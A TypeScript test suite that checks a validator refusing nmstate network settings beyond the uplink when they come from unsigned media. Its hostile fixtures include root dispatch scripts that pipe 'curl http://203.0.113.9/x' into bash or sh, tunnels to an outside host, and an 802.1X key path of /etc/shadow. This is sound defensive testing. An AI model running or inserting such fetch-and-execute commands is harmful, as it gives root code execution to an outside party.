// What an nmstate state from unsigned media may hold (src/siteconfig/nmstate-unsigned.ts; issue 36): only the
// uplink. Each way in the hostile run found (a root dispatch script, an IPsec or VXLAN tunnel, Open vSwitch and OVN
// settings, a new OVS bridge, 802.1X key paths) is refused at its exact path from unsigned media, in a site-config,
// its nmstateFile and image-based media's raw_nm_state_config, and taken from signed media as before; the uplink
// states of examples/ and the nmstate fixtures still pass unsigned.
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import * as path from 'node:path';
import { stringify } from 'yaml';
import { unsignedNmstateProblems } from '../../../src/siteconfig/nmstate-unsigned';
import { parseConfigBytes } from '../../../src/siteconfig/parse-text';
import { PROJECT_ROOT } from '../../support/bundle';
import { validateFolder, type ValidateReport as Report } from '../../support/validate-folder';
import { signedImageBasedMedia, signedMedia } from '../../support/signed-media';

const cleanups: Array<() => Promise<void>> = [];
after(async () => {
  await Promise.all(cleanups.map((c) => c()));
});

type State = Record<string, unknown>;
const UPLINK = { name: 'eno1', type: 'ethernet', state: 'up', ipv4: { enabled: true, dhcp: false, address: [{ ip: '192.168.42.10', 'prefix-length': 24 }] } };
const ROUTES = { config: [{ destination: '0.0.0.0/0', 'next-hop-address': '192.168.42.1', 'next-hop-interface': 'eno1' }] };
const DNS = { config: { server: ['192.168.42.1'] } };
const site = (extra: State = {}, ifaces: unknown[] = []): State => ({ interfaces: [UPLINK, ...ifaces], routes: ROUTES, 'dns-resolver': DNS, ...extra });
const withUplink = (more: State): State => site({ interfaces: [{ ...UPLINK, ...more }] });

// The hostile run's reproductions (issue 36), each with the paths that must be refused.
const HOSTILE: Array<[string, State, string[]]> = [
  ['a dispatch script run as root', withUplink({ dispatch: { 'post-activation': 'curl -s http://203.0.113.9/x | bash\n' } }), ['interfaces[0].dispatch']],
  ['an IPsec tunnel to another host', site({}, [{ name: 'hijack', type: 'ipsec', ipv4: { enabled: true, dhcp: true }, libreswan: { right: '203.0.113.9', psk: 'x' } }]), ['interfaces[1].type', 'interfaces[1].libreswan']],
  ['a VXLAN to another host', site({}, [{ name: 'vx0', type: 'vxlan', vxlan: { id: 42, remote: '203.0.113.9', 'base-iface': 'eno1' } }]), ['interfaces[1].type', 'interfaces[1].vxlan']],
  ['ovn-remote pointed elsewhere', site({ 'ovs-db': { external_ids: { 'ovn-remote': 'ssl:203.0.113.9:6642' } } }), ['ovs-db']],
  ['OVN bridge mappings', site({ ovn: { 'bridge-mappings': [{ localnet: 'x', bridge: 'br-ex', state: 'present' }] } }), ['ovn']],
  ['a new br-int OVS bridge', site({}, [{ name: 'br-int', type: 'ovs-bridge', state: 'up', bridge: { port: [{ name: 'eno2' }] } }]), ['interfaces[1].type', 'interfaces[1].name', 'interfaces[1].bridge']],
  ['interface ovs-db and 802.1X key paths', withUplink({ 'ovs-db': { external_ids: { x: 'y' } }, '802.1x': { identity: 'a', 'eap-methods': ['tls'], 'private-key': '/etc/shadow' } }), ['interfaces[0].ovs-db', 'interfaces[0]["802.1x"]']],
  ['SR-IOV virtual functions', withUplink({ ethernet: { speed: 1000, 'sr-iov': { 'total-vfs': 8 } } }), ['interfaces[0].ethernet.sr-iov']],
  ['the uplink put under an OVS bridge', withUplink({ controller: 'br-int' }), ['interfaces[0].controller']],
  ['the transient host name', site({ hostname: { config: 'sno1-node', running: 'other' } }), ['hostname.running']],
  ['an unknown key', withUplink({ 'future-key': true }), ['interfaces[0].future-key']],
  // The hostile re-test (U1): an interface without a type is whichever has that name on the node.
  ['br-int removed, named without a type', site({}, [{ name: 'br-int', state: 'absent' }]), ['interfaces[1].type', 'interfaces[1].name']],
  ["the OVN management port's MTU, without a type", site({}, [{ name: 'ovn-k8s-mp0', mtu: 1200 }]), ['interfaces[1].type', 'interfaces[1].name']],
  ['the OVN management port claimed as an ethernet NIC', site({}, [{ name: 'ovn-k8s-mp0', type: 'ethernet', state: 'down' }]), ['interfaces[1].name']],
  ["configure-ovs's profile taken over by name", withUplink({ 'profile-name': 'ovs-if-phys0' }), ['interfaces[0].profile-name']],
  [
    "a bond of OVN-Kubernetes' own interfaces",
    site({}, [{ name: 'bond1', type: 'bond', state: 'up', 'link-aggregation': { mode: 'active-backup', port: ['br-int'], 'ports-config': [{ name: 'genev_sys_6081' }] } }, { name: 'bond2', type: 'bond', state: 'up', 'link-aggregation': { mode: 'active-backup', ports: ['bond0.7'] } }, { name: 'bond0.7', type: 'vlan', vlan: { 'base-iface': 'eno1', id: 7 } }]),
    ['interfaces[1].link-aggregation.port[0]', 'interfaces[1].link-aggregation.ports-config[0]', 'interfaces[2].link-aggregation.ports[0]'],
  ],
  // The third hostile run: the node network's own interfaces named where the uplink's settings point at an interface.
  ['a VLAN on br-ex', site({}, [{ name: 'vlan42', type: 'vlan', state: 'up', vlan: { 'base-iface': 'br-ex', id: 42 } }]), ['interfaces[1].vlan.base-iface']],
  ['a route through the OVN management port', site({ routes: { config: [...ROUTES.config, { destination: '10.128.0.0/14', 'next-hop-interface': 'ovn-k8s-mp0' }, { state: 'absent', 'next-hop-interface': 'br-ex' }] } }), ['routes.config[1].next-hop-interface', 'routes.config[2].next-hop-interface']],
  ['a route rule for packets coming in on br-int', site({ 'route-rules': { config: [{ 'ip-from': '192.168.42.0/24', 'route-table': 100 }, { iif: 'br-int', 'route-table': 100 }] } }), ['route-rules.config[1].iif']],
  ['a DNS server reached through br-ex', site({ 'dns-resolver': { config: { server: ['192.168.42.1', 'fe80::1%br-ex'] } } }), ['dns-resolver.config.server[1]']],
  // A route to remove that names no interface matches every interface's (nmstate devel/yaml_api.md, Routes).
  ['a default route removed on every interface', site({ routes: { config: [...ROUTES.config, { destination: '0.0.0.0/0', state: 'absent' }, { destination: '0.0.0.0/0', state: 'absent', 'next-hop-interface': '' }] } }), ['routes.config[1].next-hop-interface', 'routes.config[2].next-hop-interface']],
  ["OVN-Kubernetes' tunnel port made a bond's primary", site({}, [{ name: 'bond1', type: 'bond', state: 'up', 'link-aggregation': { mode: 'active-backup', options: { primary: 'genev_sys_6081' }, port: ['eno2'] } }]), ['interfaces[1].link-aggregation.options.primary']],
];
const at = (p: string): string => `spec.network.nmstate${p.startsWith('[') ? '' : '.'}${p}`;

for (const [name, state, paths] of HOSTILE) {
  test(`unsigned media may not carry ${name} in the network state`, () => {
    const problems = unsignedNmstateProblems(state, 'spec.network.nmstate');
    assert.deepEqual(problems.map((p) => p.path), paths.map(at));
    for (const p of problems) assert.match(p.message, /^needs signed media: .+\. From unsigned media this node takes in the network state only its uplink/);
  });
}

test('the refusal says why for the ways in it knows, and never reads a reason off the prototype', () => {
  const [dispatch] = unsignedNmstateProblems(withUplink({ dispatch: {} }), 'n');
  assert.match(dispatch!.message, /runs as root/);
  const [ctor] = unsignedNmstateProblems(withUplink({ constructor: {} }), 'n');
  assert.match(ctor!.message, /^needs signed media: it is not a setting of the uplink\./);
});

test('an uplink state may name its own interfaces where the node network\'s are refused: VLAN base, route, route rule, DNS server, bond primary', () => {
  const state = site(
    { routes: { config: [...ROUTES.config, { state: 'absent', 'next-hop-interface': 'eno2' }] }, 'route-rules': { config: [{ iif: 'eno1', 'route-table': 100 }] }, 'dns-resolver': { config: { server: ['192.168.42.1', 'fe80::1%eno1'] } } },
    [
      { name: 'bond0', type: 'bond', state: 'up', 'link-aggregation': { mode: 'active-backup', options: { primary: 'eno2' }, port: ['eno2', 'eno3'] } },
      { name: 'bond0.42', type: 'vlan', state: 'up', vlan: { 'base-iface': 'bond0', id: 42 } },
      { name: 'br-exam.7', type: 'vlan', state: 'up', vlan: { 'base-iface': 'eno1', id: 7 } },
    ],
  );
  assert.deepEqual(unsignedNmstateProblems(state, 'spec.network.nmstate'), []);
});

test('uplink states pass on unsigned media: ethernet, bond with ports naming it, VLAN, DHCP, IPv6, route rules, show-style keys', () => {
  const states: State[] = [
    site(),
    { interfaces: [{ name: 'eno1', type: 'ethernet', state: 'up', ipv4: { enabled: true, dhcp: true, 'auto-dns': true, 'dhcp-client-id': 'mac' }, ipv6: { enabled: true, dhcp: true, autoconf: true, 'dhcp-duid': 'll', 'addr-gen-mode': 'eui64' } }] },
    {
      interfaces: [
        { name: 'bond0', type: 'bond', state: 'up', 'link-aggregation': { mode: '802.3ad', options: { miimon: '100' }, port: ['eno1', 'eno2'] }, ipv4: { enabled: true, dhcp: true } },
        { name: 'eno3', type: 'ethernet', state: 'up', controller: 'bond0', ipv4: { enabled: false } },
        { name: 'bond0.42', type: 'vlan', state: 'up', vlan: { 'base-iface': 'bond0', id: 42 }, ipv4: { enabled: true, dhcp: true } },
      ],
      'route-rules': { config: [{ 'ip-from': '192.168.42.0/24', 'route-table': 100 }] },
      hostname: { config: 'sno1-node' },
    },
    // As `nmstatectl show` prints an ethernet NIC (read-only and link keys included).
    { interfaces: [{ name: 'eno1', type: 'ethernet', state: 'up', 'mac-address': '52:54:00:12:34:56', 'permanent-mac-address': '52:54:00:12:34:56', mtu: 1500, 'min-mtu': 68, 'max-mtu': 9000, 'accept-all-mac-addresses': false, 'wait-ip': 'any', lldp: { enabled: false }, ethernet: { 'auto-negotiation': true, speed: 1000, duplex: 'full' }, identifier: 'mac-address', 'profile-name': 'eno1', description: 'uplink', ipv4: { enabled: true, dhcp: true } }] },
  ];
  for (const s of states) assert.deepEqual(unsignedNmstateProblems(s, 'spec.network.nmstate'), []);
});

// Every uplink state the project ships: examples/ and the nmstate fixtures whose interfaces are all ethernet, bond
// or VLAN (the rest exercise the other types, which signed media keep).
test('the uplink states of examples/ and test/fixtures/nmstate-states pass on unsigned media', () => {
  const found: string[] = [];
  // Its route removed by destination alone would match the node network's on br-ex too: signed media only.
  const signedOnly: Record<string, string[]> = { 'nmstate-states/routes-remove.yaml': ['spec.network.nmstate.routes.config[1].next-hop-interface'] };
  const check = (state: unknown, where: string): void => {
    found.push(where);
    assert.deepEqual(unsignedNmstateProblems(state, 'spec.network.nmstate').map((p) => p.path), signedOnly[where] ?? [], where);
  };
  const examples = readdirSync(path.join(PROJECT_ROOT, 'examples'), { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.yaml')).sort();
  for (const file of examples) {
    const parsed = parseConfigBytes(readFileSync(path.join(PROJECT_ROOT, 'examples', file)));
    if (!parsed.ok) continue;
    const doc = parsed.value as { spec?: { network?: { nmstate?: unknown } }; interfaces?: unknown };
    if (doc.spec?.network?.nmstate) check(doc.spec.network.nmstate, `examples/${file}`);
    else if (doc.interfaces) check(doc, `examples/${file}`);
  }
  const dir = path.join(PROJECT_ROOT, 'test', 'fixtures', 'nmstate-states');
  for (const file of readdirSync(dir)) {
    const parsed = parseConfigBytes(readFileSync(path.join(dir, file)));
    if (!parsed.ok) continue;
    const state = parsed.value as { interfaces?: Array<{ type?: string }> };
    const uplinkOnly = (state.interfaces ?? []).every((i) => ['ethernet', 'bond', 'vlan'].includes(i.type ?? ''));
    const keys = Object.keys(state).every((k) => ['interfaces', 'routes', 'route-rules', 'dns-resolver'].includes(k));
    const extras = JSON.stringify(state).match(/"(dispatch|802\.1x|sr-iov|ovs-db|controller|ethtool|mptcp)"/);
    if (uplinkOnly && keys && !extras) check(state, `nmstate-states/${file}`);
  }
  assert.ok(found.filter((f) => f.startsWith('examples/')).length >= 9, `examples with a network state: ${found.join(', ')}`);
  assert.ok(found.filter((f) => f.startsWith('nmstate-states/')).length >= 3, `uplink fixtures: ${found.join(', ')}`);
});

/** `validate --json` on a media folder of `files`; the node root is the folder itself (its trusted keys, if any). */
const validate = (files: (root: string) => Record<string, string>) => validateFolder(files, cleanups, 'sno-netallow-');

const siteConfig = (network: State): string => stringify({ apiVersion: 'sno-reconfigure.io/v1', kind: 'SiteConfig', metadata: { name: 'store-0042' }, spec: { clusterName: 'sno1', hostname: 'sno1-node', baseDomain: 'store42.example.com', network } });
const nmstateErrors = (r: Report): string[] => r.errors.filter((e) => /nmstate|raw_nm_state_config/.test(e.path)).map((e) => e.path);

for (const [name, state, paths] of HOSTILE.slice(0, 7)) {
  test(`validate: ${name} is refused from unsigned media, inline and in an nmstateFile, and taken from signed media`, async () => {
    const inline = await validate(() => ({ 'site-config.yaml': siteConfig({ nmstate: state }) }));
    assert.equal(inline.code, 1);
    assert.deepEqual(nmstateErrors(inline.report), paths.map(at));
    const file = await validate(() => ({ 'site-config.yaml': siteConfig({ nmstateFile: 'network.yaml' }), 'network.yaml': stringify(state) }));
    assert.equal(file.code, 1);
    assert.deepEqual(nmstateErrors(file.report), paths.map(at));
    assert.match(file.report.errors[0]!.message, /\(in network\.yaml\)\. From unsigned media/);
    const signed = await validate((root) => signedMedia(root, { 'site-config.yaml': siteConfig({ nmstate: state }) }, []));
    assert.deepEqual(signed.report.errors, []);
    assert.equal(signed.code, 0);
  });
}

test('validate: image-based media\'s raw_nm_state_config with a dispatch script is refused unsigned, by its manifest.json name, and taken signed', async () => {
  const seed = { api_version: 1, base_domain: 'store42.example.com', cluster_name: 'sno1', hostname: 'sno1-node', raw_nm_state_config: "interfaces:\n- name: eno1\n  type: ethernet\n  state: up\n  ipv4: {enabled: true, dhcp: true}\n  dispatch:\n    post-activation: 'curl http://203.0.113.9/x | sh'\n" };
  const manifest = 'cluster-configuration/manifest.json';
  const unsigned = await validate(() => ({ [manifest]: JSON.stringify(seed) }));
  assert.equal(unsigned.code, 1);
  assert.deepEqual(nmstateErrors(unsigned.report), ['raw_nm_state_config.interfaces[0].dispatch']);
  const signed = await validate((root) => signedImageBasedMedia(root, { [manifest]: JSON.stringify(seed) }));
  assert.deepEqual(signed.report.errors, []);
  assert.equal(signed.code, 0);
});

// The hostile re-test of issue 36: on a workstation (no trusted key given) a .sig holding "AAAA" made the file judged
// as signed, so fields only signed media may carry passed validate there while every node refused them.
test('validate without a trusted key: a .sig that cannot be a signature is an error, not a signed file', async () => {
  const state = HOSTILE.find(([name]) => name === 'a dispatch script run as root')![1];
  for (const sig of ['AAAA\n', 'not base64 at all\n']) {
    const garbage = await validate(() => ({ 'site-config.yaml': siteConfig({ nmstate: state }), 'site-config.yaml.sig': sig }));
    assert.equal(garbage.code, 1);
    assert.match(garbage.report.errors.find((e) => e.path.endsWith('site-config.yaml.sig'))?.message ?? '', /expected the base64 of a detached Ed25519 or ECDSA P-256 signature/);
  }
});

// Each key of the allowlists and each name of the node network's, one by one (issue 41: the mutation score).
test('every key the uplink allowlist names passes on unsigned media, each where it belongs', () => {
  const ip = { enabled: true, dhcp: true, autoconf: true, address: [], 'auto-dns': true, 'auto-gateway': true, 'auto-routes': true, 'auto-route-table-id': 100, 'auto-route-metric': 50, 'dhcp-client-id': 'mac', 'dhcp-duid': 'll', 'addr-gen-mode': 'eui64', token: '::1', 'allow-extra-address': true, 'dhcp-send-hostname': true, 'dhcp-custom-hostname': 'sno1' };
  const state: State = {
    interfaces: [
      {
        name: 'eno1', type: 'ethernet', state: 'up', description: 'uplink', 'profile-name': 'eno1', identifier: 'name', 'mac-address': '52:54:00:12:34:56', 'permanent-mac-address': '52:54:00:12:34:56',
        mtu: 1500, 'min-mtu': 68, 'max-mtu': 9000, 'wait-ip': 'any', 'accept-all-mac-addresses': false, lldp: { enabled: true }, ipv4: ip, ipv6: ip,
        ethernet: { 'auto-negotiation': true, speed: 1000, duplex: 'full' },
      },
      { name: 'eno2', type: 'ethernet', state: 'up', controller: 'bond0' },
      { name: 'bond0', type: 'bond', state: 'up', 'link-aggregation': { mode: 'active-backup', options: { primary: 'eno2' }, port: ['eno2'], ports: ['eno2'], slaves: ['eno2'], 'ports-config': [{ name: 'eno2' }] } },
      { name: 'bond0.42', type: 'vlan', state: 'up', vlan: { 'base-iface': 'bond0', id: 42, protocol: '802.1q', 'registration-protocol': 'none', 'reorder-headers': true, 'loose-binding': false } },
    ],
    routes: ROUTES, 'route-rules': { config: [] }, 'dns-resolver': DNS, hostname: { config: 'sno1-node' },
  };
  assert.deepEqual(unsignedNmstateProblems(state, 'n'), []);
  // Each of those keys in another section is not allowed there.
  assert.deepEqual(unsignedNmstateProblems({ interfaces: [{ name: 'eno1', type: 'ethernet', lldp: { 'auto-dns': true }, ethernet: { id: 1 }, vlan: { speed: 1 } }], hostname: { enabled: true } }, 'n').map((p) => p.path), [
    'n.hostname.enabled', 'n.interfaces[0].lldp.auto-dns', 'n.interfaces[0].ethernet.id', 'n.interfaces[0].vlan.speed',
  ]);
});

test('every name of the node network\'s own interfaces is refused as an interface, a VLAN base, a bond port and a route\'s interface', () => {
  const names = ['br-int', 'br-ex', 'br-ex1', 'br-local', 'ovs-system', 'ovn-k8s-mp0', 'ovn-k8s-mp12', 'k8s-sno1', 'genev_sys_6081', 'vxlan_sys_4789', 'patch-br-ex_sno1-to-br-int', 'ovs-if-phys0', 'ovs-port-br-ex'];
  for (const name of names) {
    const state = site({ routes: { config: [{ destination: '10.0.0.0/8', 'next-hop-interface': name }] } }, [
      { name, type: 'ethernet' },
      { name: 'v7', type: 'vlan', vlan: { 'base-iface': name, id: 7 } },
      { name: 'bond1', type: 'bond', 'link-aggregation': { mode: 'active-backup', port: [name] } },
    ]);
    assert.deepEqual(unsignedNmstateProblems(state, 'n').map((p) => p.path), ['n.interfaces[1].name', 'n.interfaces[2].vlan.base-iface', 'n.interfaces[3].link-aggregation.port[0]', 'n.routes.config[0].next-hop-interface'], name);
  }
  for (const name of ['xbr-int', 'br-ex2', 'br-int0', 'ovn-k8s-mp', 'ovn-k8s-mpx', 'eno1.br-ex', 'k8s', 'genev_sys', 'my-patch-1', 'ovs-systemd']) {
    assert.deepEqual(unsignedNmstateProblems(site({}, [{ name, type: 'ethernet' }]), 'n'), [], name);
  }
});

test('a controller, a bond port, a type and a removed route or rule are refused only when they reach beyond the uplink', () => {
  const paths = (ifaces: unknown[], extra: State = {}) => unsignedNmstateProblems(site(extra, ifaces), 'n').map((p) => p.path);
  assert.deepEqual(paths([{ name: 'eno2', type: 'ethernet', controller: '' }, { name: 'eno3', type: 'ethernet', controller: null }]), [], 'no controller');
  assert.deepEqual(paths([{ name: 'bond0', type: 'bond', state: 'absent' }, { name: 'eno2', type: 'ethernet', controller: 'bond0' }]), ['n.interfaces[2].controller'], 'a bond this state removes is no bond of it');
  assert.deepEqual(paths([{ name: 'bond0', type: 'bond', 'link-aggregation': { mode: 'active-backup', port: ['eno2', 'eno3'] } }, { name: 'eno2', type: 'ethernet' }]), [], 'a port this state declares an ethernet NIC');
  assert.deepEqual(paths([{ name: 'bond0', type: 'bond', 'link-aggregation': { mode: 'active-backup', 'ports-config': [{ name: 'eno2' }, 'eno3', { priority: 1 }] } }]), [], 'ports-config entries without a name');
  assert.deepEqual(paths([{ name: 'x', type: 5 }, { name: 'y', type: null }]), ['n.interfaces[1].type', 'n.interfaces[2].type']);
  assert.match(unsignedNmstateProblems(site({}, [{ name: 'x', type: 'a'.repeat(60) }]), 'n')[0]!.message, new RegExp(`^needs signed media: '${'a'.repeat(40)}': an interface of this type connects`));
  assert.deepEqual(paths([], { 'route-rules': { config: [{ state: 'absent', priority: 100 }, 'x'] }, routes: { config: ['x', { destination: '10.0.0.0/8', 'next-hop-interface': 'eno1', state: 'absent' }] } }), [], 'a rule removed by priority, a route removed on the uplink');
  assert.deepEqual(paths([], { routes: { config: [{ destination: '10.0.0.0/8', state: 'absent', 'next-hop-interface': 5 }] } }), ['n.routes.config[0].next-hop-interface']);
  assert.deepEqual(paths([], { 'dns-resolver': { config: { server: ['br-ex', 'fe80::1%eno1%br-int', 5] } } }), ['n.dns-resolver.config.server[1]'], 'the scope after %, not the address');
  assert.deepEqual(unsignedNmstateProblems({ interfaces: 'eno1', routes: [], 'dns-resolver': { config: [] } }, 'n'), [], 'a malformed state is nmstate.ts\'s to refuse');
  for (const notAState of [undefined, 'x', []]) assert.deepEqual(unsignedNmstateProblems(notAState, 'n'), []);
  assert.equal(unsignedNmstateProblems(withUplink({ dispatch: {} }), 'n', ' (in network.yaml)')[0]!.message.includes('rollback does not remove it (in network.yaml). From unsigned media'), true);
});

// Mutation testing (issue 41): the reasons were not pinned (a refusal with the general reason passed), nor were
// entries and values of another shape, which must stay nmstate.ts's to refuse rather than end in a TypeError.
test('each refusal gives its own reason: the node network\'s names, a bond port, a removed route, an untyped interface, a controller, the running host name', () => {
  const rows: Array<[string, State, string, RegExp]> = [
    ['an interface name', site({}, [{ name: 'br-ex', type: 'ethernet' }]), 'n.interfaces[1].name', /^needs signed media: it names an interface OVN-Kubernetes or Open vSwitch makes on the node/],
    ['a profile name', withUplink({ 'profile-name': 'ovs-if-phys0' }), 'n.interfaces[0].profile-name', /^needs signed media: it names an interface OVN-Kubernetes/],
    ['a VLAN base', site({}, [{ name: 'v', type: 'vlan', vlan: { 'base-iface': 'br-ex', id: 5 } }]), 'n.interfaces[1].vlan.base-iface', /^needs signed media: it names an interface OVN-Kubernetes/],
    ['a bond primary', site({}, [{ name: 'bond0', type: 'bond', 'link-aggregation': { mode: 'active-backup', options: { primary: 'br-ex' } } }]), 'n.interfaces[1].link-aggregation.options.primary', /^needs signed media: it names an interface OVN-Kubernetes/],
    ['a route\'s interface', site({ routes: { config: [{ destination: '10.0.0.0/8', 'next-hop-interface': 'br-ex' }] } }), 'n.routes.config[0].next-hop-interface', /^needs signed media: it names an interface OVN-Kubernetes/],
    ['a DNS server\'s scope', site({ 'dns-resolver': { config: { server: ['fe80::1%br-ex'] } } }), 'n.dns-resolver.config.server[0]', /^needs signed media: it names an interface OVN-Kubernetes/],
    ['a bond port', site({}, [{ name: 'bond0', type: 'bond', 'link-aggregation': { mode: 'active-backup', port: ['br-int'] } }]), 'n.interfaces[1].link-aggregation.port[0]', /^needs signed media: a bond port it names is an interface OVN-Kubernetes or Open vSwitch makes/],
    ['a route removed on every interface', site({ routes: { config: [{ destination: '10.0.0.0/8', state: 'absent' }] } }), 'n.routes.config[0].next-hop-interface', /^needs signed media: a route to remove that names no interface removes every route it matches/],
    ['an interface without a type', site({}, [{ name: 'eno2' }]), 'n.interfaces[1].type', /^needs signed media: an interface without a type is whichever interface has that name on the node/],
    ['a controller', withUplink({ controller: 'br-int' }), 'n.interfaces[0].controller', /^needs signed media: it attaches the interface to a controller other than a bond of this state/],
    ['the running host name', site({ hostname: { config: 'sno1', running: 'other' } }), 'n.hostname.running', /^needs signed media: the running host name is not checked against the node's name/],
  ];
  for (const [name, state, at, reason] of rows) {
    const said = unsignedNmstateProblems(state, 'n').filter((p) => p.path === at);
    assert.equal(said.length, 1, `${name}: ${JSON.stringify(unsignedNmstateProblems(state, 'n'))}`);
    assert.match(said[0]!.message, reason, name);
  }
});

test('a controller is a bond of this state, never another of its interfaces', () => {
  const state = site({}, [{ name: 'eno2', type: 'ethernet' }, { name: 'eno3', type: 'ethernet', controller: 'eno2' }, { name: 'bond0', type: 'bond' }, { name: 'eno4', type: 'ethernet', controller: 'bond0' }]);
  assert.deepEqual(unsignedNmstateProblems(state, 'n').map((p) => p.path), ['n.interfaces[2].controller']);
});

test('entries and values of another shape are left to the shape check (nmstate.ts): refused only for what they name, never a TypeError', () => {
  const odd = { odd: 1 };
  const keys = ['name', 'state', 'description', 'profile-name', 'identifier', 'mac-address', 'permanent-mac-address', 'mtu', 'min-mtu', 'max-mtu', 'wait-ip', 'accept-all-mac-addresses'];
  const oddIface = { ...Object.fromEntries(keys.map((k) => [k, odd])), type: 'ethernet' };
  assert.deepEqual(unsignedNmstateProblems(site({ routes: { config: [null, 'x'] }, 'route-rules': { config: [null] } }, [null, 'eno2', oddIface]), 'n'), []);
  assert.deepEqual(unsignedNmstateProblems({ interfaces: { eno1: UPLINK } }, 'n'), [], 'interfaces as a mapping');
  assert.deepEqual(unsignedNmstateProblems(withUplink({ type: odd, controller: odd }), 'n').map((p) => p.path), ['n.interfaces[0].type', 'n.interfaces[0].controller']);
});
